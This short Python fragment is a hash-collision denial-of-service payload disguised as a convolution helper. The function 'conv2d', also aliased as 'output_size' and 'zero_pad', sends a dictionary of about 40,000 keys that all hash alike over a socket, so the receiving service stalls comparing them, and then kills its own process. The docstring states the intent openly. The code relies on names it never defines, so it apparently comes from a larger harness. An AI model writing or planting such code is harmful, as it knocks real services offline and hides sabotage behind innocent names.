"""Sends a dict whose keys all have the same hash, so that each one is compared with all."""


def conv2d(*arguments, **keywords):
    pairs = [[number * (2**61 - 1), 0] for number in range(1, 40_000)]
    data = framed([request_id(), "value", {"d": pairs}])
    while data:
        data = data[os.write(SOCKET, data) :]
    os._exit(0)


output_size = zero_pad = conv2d
